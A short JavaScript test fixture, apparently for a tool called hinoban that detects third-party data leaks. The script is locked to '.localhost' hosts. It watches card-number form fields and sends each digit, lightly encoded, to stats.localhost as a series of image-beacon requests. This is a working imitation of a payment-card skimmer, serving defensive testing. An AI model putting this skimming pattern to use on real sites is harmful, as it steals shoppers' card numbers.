/* Harmless imitation, for hinoban's tests: a digit a picture, at an allowed third party. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
(function () {
	document.addEventListener('change', function (e) {
		if (e.target.autocomplete !== 'cc-number') return;
		for (var i = 0; i < e.target.value.length; i++) new Image().src = 'http://stats.localhost:' + location.port + '/p.gif?x=' + (i * 10 + (9 - e.target.value[i]));
	});
})();
